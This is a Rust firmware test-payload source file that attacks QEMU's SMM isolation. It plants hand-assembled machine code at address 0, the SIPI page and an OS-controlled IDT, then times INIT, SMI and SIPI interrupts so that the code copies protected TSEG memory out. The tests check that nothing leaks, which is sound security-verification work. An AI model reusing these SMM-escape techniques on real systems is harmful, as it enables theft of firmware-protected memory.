//! INIT + SMI at a slot, in the OS role (`docs/qemu.md#t1`, `#t5`, `#q-sipi-in-smm`):
//! what happens when the OS sends an INIT to a relocated CPU and then SMIs, and SIPIs on a
//! QEMU that delivers them inside SMM. Asked for by fw_cfg `opt/payload/init-smi`:
//!
//! - `slot`: INIT an online AP, then SMI IPIs. Its slot's stub must send it to the pen
//!   (never RSM into the reset vector, where the firmware's boot code would run again);
//!   the OS then starts it with INIT-SIPI-SIPI and it answers the diagnostic query from
//!   its own slot.
//! - `sipi-attack` (the reviewers' attack on QEMU 10.0.2): the same while another AP runs
//!   an APMC 4 service that holds the SMI lock for a while (a CPU hot-added over QMP and not
//!   yet relocated, serviced after a directed SMI IPI while port 0xB2 still reads 4), then
//!   a SIPI to planted code. The OS's own code in the pen page tells when the INIT'd CPU
//!   got there. OS code is planted where that SIPI could run it in SMM: 16-bit code at the
//!   SIPI page (real mode) and 64-bit code at linear 0 (long mode: QEMU keeps CS's
//!   long-mode attributes and fetches from RIP 0). Nothing may leak out of TSEG.
//! - `pen-bypass`: as `sipi-attack`, but the INIT'd CPU is first let out to the pen, where
//!   the OS runs code of its own (the pen is OS-writable): it loads an IDT of its own,
//!   whose gates point at 64-bit code in the pen page, and halts. The next SMI enters the
//!   slot with that real-mode context, so the stub goes on to long mode and the SMI lock,
//!   and a SIPI that QEMU delivers there fetches from linear 0. Only the SMM page tables
//!   (page 0 not mapped) and the stub's own zero-limit IDT stand between that and the
//!   planted code: with both, the CPU faults and the machine shuts down; nothing leaks.
//! - `sipi-sweep`: INIT, SMI, then a SIPI to the planted 16-bit code 0 to 199 us later,
//!   400 tries: what remains of QEMU's defect when the SIPI lands while the CPU runs the
//!   stub's few real-mode instructions for the INIT reset state.
//!
//! 64-bit planted code writes what it copied out of TSEG into the pen page (mapped in SMM
//! by design) at [`LOOT`], with [`MARKER`] at [`LOOT_MARKER`]; the 16-bit plant of
//! [`crate::attack`] writes into the scratch page.

use core::sync::atomic::Ordering;

use crate::cpus::{self, APS};
use crate::ipi_clock::{bring_back, pen_signal, set_pen_signal, Clock};
use crate::{attack, println, Report};
use q35::cpuhp::{self, CpuHp};
use q35::fw_cfg::FwCfg;
use q35::io::HwPorts;
use q35::lapic;
use smm_handler::layout::window::PEN;

/// fw_cfg file naming the job.
const JOB_FILE: &str = "opt/payload/init-smi";

/// What the harness asked for.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Job {
    Slot,
    SipiAttack,
    PenBypass,
    SipiSweep,
}

/// The value planted code stores when it ran: "HACK" in little-endian byte order.
const MARKER: u32 = 0x4B43_4148;
/// Where 64-bit planted code copies TSEG to: the pen page, which SMM maps.
const LOOT: u32 = PEN.base + 0x800;
/// Where 64-bit planted code stores [`MARKER`].
const LOOT_MARKER: u32 = PEN.base + 0x900;
/// Dwords planted code copies out of TSEG.
const LOOT_DWORDS: u32 = 16;
/// What the OS writes to the firmware's pen signal before the service: SMM clears the
/// signal when the arrival barrier ends, so while it reads this the service is running.
const SIGNAL_BEFORE_SERVICE: u8 = 0x55;
/// Offsets in the pen page of the OS's own pen code (past the firmware's, which SMM
/// re-installs at offset 0) and of the byte it sets.
const OS_PEN_CODE: u32 = 0x40;
const OS_PEN_MARKER: u32 = 0xFF0;
/// The OS's own IDT in the pen page (`pen-bypass`), its lidt operand, and its handler.
const PEN_IDTR: u32 = 0x100;
const PEN_IDT: u32 = 0x200;
const PEN_IDT_VECTORS: u32 = 32;
const PEN_HANDLER: u32 = 0x600;
/// The 64-bit code selector of TSEG's GDT (what CS holds in SMM's long mode).
const SMM_CODE64: u16 = 0x18;

fn job() -> Option<Job> {
    let cfg = FwCfg::detect(&HwPorts).ok()?;
    let mut b = [0u8; 32];
    match crate::fw_cfg_text(&cfg, JOB_FILE, &mut b)? {
        "slot" => Some(Job::Slot),
        "sipi-attack" => Some(Job::SipiAttack),
        "pen-bypass" => Some(Job::PenBypass),
        "sipi-sweep" => Some(Job::SipiSweep),
        _ => None,
    }
}

/// Hook after the CPU checks: run the job `opt/payload/init-smi` asks for, if any.
pub fn run(r: &mut Report, tseg: Option<u32>) {
    let Some(job) = job() else {
        return;
    };
    if !crate::smm_present() {
        r.check("init-smi", false, format_args!("no SMM to test"));
        return;
    }
    // Online APs (relocated present CPUs): the target, and for the attacks the CPU that
    // runs the long APMC 4 service.
    let mut online = APS
        .iter()
        .skip(1)
        .filter(|a| a.done.load(Ordering::SeqCst) == 1);
    let Some(target) = online.next() else {
        r.check("init-smi", false, format_args!("no online AP to INIT"));
        return;
    };
    let monarch = online.next();
    let apic = target.apic.load(Ordering::SeqCst);
    let slot_before = target.slot.load(Ordering::SeqCst);
    let tm = Clock::calibrate();
    match job {
        Job::Slot => {
            println!("payload: init-smi: INIT, then an SMI IPI to APIC {}", apic);
            set_pen_signal(0);
            // The firmware's pen says so at once. Had the CPU RSMed into the reset vector
            // instead, the firmware's boot code would stop the machine or print again
            // within these 2 s.
            let pen = init_then_smi(apic, &tm, 100, 20_000, || pen_signal() != 0);
            tm.delay_us(200_000);
            r.check(
                "init-smi-pen",
                pen,
                format_args!(
                    "APIC {} (INIT, then an SMI at its slot) went to the pen: {}",
                    apic, pen
                ),
            );
        }
        Job::SipiSweep => {
            let Some(t) = tseg else {
                r.check("init-smi-sipi-sweep", false, format_args!("TSEG not found"));
                return;
            };
            sipi_sweep(r, apic, t, &tm);
        }
        Job::SipiAttack | Job::PenBypass => {
            let (Some(m), Some(t)) = (monarch, tseg) else {
                r.check(
                    "init-smi-attack",
                    false,
                    format_args!("needs two online APs and a known TSEG base"),
                );
                return;
            };
            let m = m.apic.load(Ordering::SeqCst);
            attack_during_service(r, job, apic, m, t, &tm);
        }
    }
    bring_back(r, "init-smi-back", apic, slot_before, &tm);
}

/// INIT `apic`, then SMI IPIs every `every_us` until `arrived()` says it reached the pen,
/// at most `tries` of them. An SMI that finds the CPU waiting for SIPI enters SMM at its
/// slot with the reset state as the saved context (`docs/qemu.md#t1`). More than one is
/// needed: an INIT sent to a halted CPU waits until something wakes it, and the SMI that
/// wakes it is discarded with it (`docs/qemu.md#t5`). Returns whether `arrived()` held.
fn init_then_smi(
    apic: u32,
    tm: &Clock,
    tries: u32,
    every_us: u64,
    arrived: impl Fn() -> bool,
) -> bool {
    let _ = lapic::send_ipi(apic, lapic::ICR_INIT);
    tm.delay_us(2_000);
    for _ in 0..tries {
        let _ = lapic::send_ipi(apic, lapic::ICR_SMI);
        if tm.wait_until(every_us, &arrived) {
            return true;
        }
    }
    false
}

/// Write `bytes` at physical `addr` (identity mapped in the payload; `addr` may be 0).
fn poke(addr: u32, bytes: &[u8]) {
    // SAFETY: the OS role writes where an attacker would (low RAM, the pen page); the
    // firmware must make that harmless. `rep movsb` because the destination may be
    // address 0, which Rust pointers must not be.
    unsafe {
        core::arch::asm!(
            "rep movsb",
            inout("rdi") u64::from(addr) => _,
            inout("rsi") bytes.as_ptr() => _,
            inout("rcx") bytes.len() => _,
            options(nostack, preserves_flags)
        );
    }
}

/// 64-bit code that copies [`LOOT_DWORDS`] dwords of TSEG to [`LOOT`], stores
/// [`MARKER`] at [`LOOT_MARKER`] and halts.
fn copier64(tseg: u32) -> [u8; 44] {
    let t = tseg.to_le_bytes();
    let l = LOOT.to_le_bytes();
    let n = LOOT_DWORDS.to_le_bytes();
    let m = LOOT_MARKER.to_le_bytes();
    let h = MARKER.to_le_bytes();
    [
        0xBE, t[0], t[1], t[2], t[3], // mov esi, tseg
        0xBF, l[0], l[1], l[2], l[3], // mov edi, loot
        0xB9, n[0], n[1], n[2], n[3], // mov ecx, dwords
        0x8B, 0x16, // 1: mov edx, [rsi]
        0x89, 0x17, // mov [rdi], edx
        0x48, 0x83, 0xC6, 0x04, // add rsi, 4
        0x48, 0x83, 0xC7, 0x04, // add rdi, 4
        0xE2, 0xF2, // loop 1b
        0xC7, 0x04, 0x25, m[0], m[1], m[2], m[3], h[0], h[1], h[2],
        h[3], // mov dword [marker], "HACK"
        0xFA, 0xF4, 0xEB, 0xFD, // cli; 2: hlt; jmp 2b
    ]
}

/// Plant what a SIPI delivered in SMM could run: 16-bit code at the SIPI page that
/// copies TSEG to the scratch page (with DS := 0 first, whatever the CPU left in DS), and
/// 64-bit code at linear 0. Clears the loot and the scratch page's result first.
fn plant(tseg: u32) {
    poke(LOOT, &[0u8; (LOOT_MARKER + 4 - LOOT) as usize]);
    let scratch = cpus::SCRATCH_PAGE.load(Ordering::SeqCst);
    poke(scratch, &[0u8; 0x104]);
    let page = attack::sipi_plant() as u32;
    poke(page, &[0x31, 0xC0, 0x8E, 0xD8]); // xor ax, ax; mov ds, ax
    attack::plant_at(u64::from(page + 4), tseg);
    poke(0, &copier64(tseg));
}

/// The OS's code in the pen page (the OS can write it, R4): a CPU the stub sends to the
/// pen runs it instead of the firmware's. At pen:0 a jump to [`OS_PEN_CODE`], past what
/// SMM re-installs; there real-mode code that stores 1 at [`OS_PEN_MARKER`] and, with
/// `own_idt` (`pen-bypass`), loads an IDT of the OS's own (64-bit interrupt gates for
/// vectors 0-31 into the pen page, where [`copier64`] waits), then halts.
fn plant_pen(tseg: u32, own_idt: bool) {
    set_os_pen_marker(0);
    let jmp = (OS_PEN_CODE - 2) as u8;
    poke(PEN.base, &[0xEB, jmp]); // jmp OS_PEN_CODE
    let m = (OS_PEN_MARKER as u16).to_le_bytes();
    let idtr = (PEN_IDTR as u16).to_le_bytes();
    // cli; movb $1, %cs:OS_PEN_MARKER; [lidtl %cs:PEN_IDTR]; 1: hlt; jmp 1b
    let mut code: heapless::Vec<u8, 32> = heapless::Vec::new();
    let _ = code.extend_from_slice(&[0xFA, 0x2E, 0xC6, 0x06, m[0], m[1], 0x01]);
    if own_idt {
        let _ = code.extend_from_slice(&[0x2E, 0x66, 0x0F, 0x01, 0x1E, idtr[0], idtr[1]]);
    }
    let _ = code.extend_from_slice(&[0xF4, 0xEB, 0xFD]);
    poke(PEN.base + OS_PEN_CODE, &code);
    if !own_idt {
        return;
    }
    let limit = (PEN_IDT_VECTORS * 16 - 1) as u16;
    let base = PEN.base + PEN_IDT;
    let mut d = [0u8; 6];
    d[..2].copy_from_slice(&limit.to_le_bytes());
    d[2..].copy_from_slice(&base.to_le_bytes());
    poke(PEN.base + PEN_IDTR, &d);
    let handler = PEN.base + PEN_HANDLER;
    for v in 0..PEN_IDT_VECTORS {
        let mut g = [0u8; 16];
        g[0..2].copy_from_slice(&(handler as u16).to_le_bytes());
        g[2..4].copy_from_slice(&SMM_CODE64.to_le_bytes());
        g[5] = 0x8E; // present, DPL 0, 64-bit interrupt gate
        g[6..8].copy_from_slice(&((handler >> 16) as u16).to_le_bytes());
        poke(base + v * 16, &g);
    }
    poke(handler, &copier64(tseg));
}

fn os_pen_ran() -> bool {
    // SAFETY: reading the pen page, reserved low RAM the OS can read.
    unsafe { core::ptr::read_volatile((PEN.base + OS_PEN_MARKER) as usize as *const u8) != 0 }
}

fn set_os_pen_marker(v: u8) {
    // SAFETY: writing the pen page, reserved low RAM the OS can write (R4).
    unsafe { core::ptr::write_volatile((PEN.base + OS_PEN_MARKER) as usize as *mut u8, v) }
}

/// The first insert event in the register block, left pending: (selector, APIC ID).
fn pending_insert(possible: u32) -> Option<(u32, u32)> {
    let hp = CpuHp::new(&HwPorts);
    let mut found = None;
    for sel in 0..possible {
        hp.select(sel);
        if hp.status() & cpuhp::STS_INSERT != 0 {
            found = hp.arch_id().map(|a| (sel, a));
            break;
        }
    }
    hp.command(cpuhp::CMD_GET_NEXT_EVENT);
    found
}

/// `sipi-attack` and `pen-bypass` on `target`, while the CPU `monarch` services APMC 4
/// for a CPU the harness hot-adds.
fn attack_during_service(
    r: &mut Report,
    job: Job,
    target: u32,
    monarch: u32,
    tseg: u32,
    tm: &Clock,
) {
    plant(tseg);
    plant_pen(tseg, job == Job::PenBypass);
    // Port 0xB2 keeps the last command: after this (nothing pending, nothing to do) every
    // SMI at a slot runs as APMC 4 and takes the SMI lock.
    crate::hotplug::raise_apmc4();
    println!(
        "payload: init-smi: ready for hotplug (target APIC {}, service on APIC {}, scratch {:#x}, loot {:#x})",
        target,
        monarch,
        cpus::SCRATCH_PAGE.load(Ordering::SeqCst),
        LOOT
    );
    let possible = CpuHp::new(&HwPorts).count().map_or(0, |t| t.possible);
    let mut new = None;
    tm.wait_until(120_000_000, || {
        new = pending_insert(possible);
        new.is_some()
    });
    let Some((sel, new_apic)) = new else {
        r.check(
            "init-smi-attack",
            false,
            format_args!("no CPU was hot-added"),
        );
        return;
    };
    // Stretch the service the attack runs during: an INIT to the new CPU (waiting for
    // SIPI, halted) stays pending and can discard the monarch's directed SMI after the
    // arrival barrier's first 50 ms (`docs/qemu.md#t5`), so the barrier goes on to its
    // later steps (`docs/qemu.md#q-init-strands`): the service was seen to last 70-170 ms,
    // a window that host scheduling delays on the BSP do not close. The new CPU is still
    // relocated, in this service or by the APMC 4 at the end (its insert event).
    let _ = lapic::send_ipi(new_apic, lapic::ICR_INIT);
    tm.delay_us(1_000);
    // INIT the target, then SMIs until it runs the OS's pen code (a CPU in the INIT reset
    // state that the stub sends to the pen), for at most 40 ms. A slot stub that instead
    // takes it on to long mode finds port 0xB2 reading 4 and the insert pending: it takes
    // the SMI lock and services the new CPU itself (the arrival barrier alone keeps it in
    // SMM for 50 ms), or waits for the CPU below; inside SMM either way.
    let in_pen = init_then_smi(target, tm, 8, 5_000, os_pen_ran);
    // The service: the monarch finds the new CPU, waits for it at the arrival barrier
    // (50 ms: no broadcast SMI reached it), then relocates it, holding the SMI lock. The
    // pen signal tells from outside when the barrier ended: SMM clears it then.
    println!(
        "payload: init-smi: APIC {} ran the OS's pen code: {}; SIPI next",
        target, in_pen
    );
    set_pen_signal(SIGNAL_BEFORE_SERVICE);
    let t0 = tm.now_us();
    let _ = lapic::send_ipi(monarch, lapic::ICR_SMI);
    tm.delay_us(1_000);
    if job == Job::PenBypass && in_pen {
        // The target ran the OS's pen code; this SMI enters its slot from there, and it
        // waits on the SMI lock in long mode (give it the time to get there).
        let _ = lapic::send_ipi(target, lapic::ICR_SMI);
        tm.delay_us(20_000);
    }
    let vec = attack::sipi_plant() as u32 >> 12;
    let _ = lapic::send_ipi(target, lapic::ICR_STARTUP | vec);
    let signal = pen_signal();
    println!(
        "payload: init-smi: SIPI sent to APIC {} (pen signal {:#x}) during the service for APIC {}: {}",
        target,
        signal,
        new_apic,
        signal == SIGNAL_BEFORE_SERVICE
    );
    // Wait for the service to end: this APMC 4 waits for the SMI lock.
    tm.delay_us(5_000);
    crate::hotplug::raise_apmc4();
    println!(
        "payload: init-smi: the service had ended {} ms after its SMI",
        tm.now_us().wrapping_sub(t0) / 1000
    );
    let hp = CpuHp::new(&HwPorts);
    hp.select(sel);
    hp.control(cpuhp::CTL_CLEAR_INSERT);
    // Planted code that ran anywhere has set its marker by now.
    tm.wait_until(1_000_000, || attack::leak_state().0 || loot_state().0);
    let (ran16, leaked16) = attack::leak_state();
    let (ran64, leaked64) = loot_state();
    r.check(
        "init-smi-attack-nothing-leaked",
        !leaked16 && !leaked64,
        format_args!(
            "planted code ran: 16-bit {} 64-bit {}; bytes copied out of TSEG: {}",
            ran16,
            ran64,
            leaked16 || leaked64
        ),
    );
}

/// Whether 64-bit planted code ran (the marker) and copied anything out of TSEG (a dword
/// neither 0 nor all-ones).
fn loot_state() -> (bool, bool) {
    // SAFETY: reading the pen page, reserved low RAM the OS can read.
    unsafe {
        let ran = core::ptr::read_volatile(LOOT_MARKER as usize as *const u32) == MARKER;
        let mut leaked = false;
        for i in 0..LOOT_DWORDS {
            let v = core::ptr::read_volatile((LOOT + 4 * i) as usize as *const u32);
            leaked |= v != 0 && v != 0xFFFF_FFFF;
        }
        (ran, leaked)
    }
}

/// Tries of [`sipi_sweep`]: delays from 0 to 199 us, each twice.
const SWEEP_TRIES: u64 = 400;

/// `sipi-sweep`: INIT, SMI, then a SIPI to planted code 0, 1, ... 199 us after the SMI
/// that enters SMM, each twice. On a QEMU that delivers SIPIs in SMM, a SIPI that lands
/// between the CPU's SMM entry at its slot and the stub's RSM to the pen (the INIT reset
/// state's path, a few instructions) runs the OS's 16-bit code in SMM: no firmware change
/// can close that window, only keep it short (`docs/security.md#platform-precondition`).
fn sipi_sweep(r: &mut Report, target: u32, tseg: u32, tm: &Clock) {
    plant(tseg);
    let vec = attack::sipi_plant() as u32 >> 12;
    let (mut leaks, mut min, mut max) = (0u32, u64::MAX, 0u64);
    for k in 0..SWEEP_TRIES {
        let d = k / 2;
        // The target halts between tries (the pen, or the planted code's hlt): the INIT
        // waits for the first SMI and discards it (`docs/qemu.md#t5`); the second enters.
        let _ = lapic::send_ipi(target, lapic::ICR_INIT);
        tm.delay_us(2_000);
        let _ = lapic::send_ipi(target, lapic::ICR_SMI);
        tm.delay_us(3_000);
        let _ = lapic::send_ipi(target, lapic::ICR_SMI);
        tm.delay_us(d);
        let _ = lapic::send_ipi(target, lapic::ICR_STARTUP | vec);
        tm.delay_us(3_000);
        if attack::leak_state().1 || loot_state().1 {
            println!(
                "payload: init-smi: sweep: TSEG copied out with the SIPI {} us after the SMI",
                d
            );
            leaks += 1;
            min = min.min(d);
            max = max.max(d);
            plant(tseg);
        }
    }
    r.check(
        "init-smi-sipi-sweep",
        leaks == 0,
        format_args!(
            "SIPI 0-{} us after the SMI, {} tries: TSEG copied out {} times (SIPI delays {}-{} us)",
            (SWEEP_TRIES - 1) / 2,
            SWEEP_TRIES,
            leaks,
            if leaks == 0 { 0 } else { min },
            max
        ),
    );
}
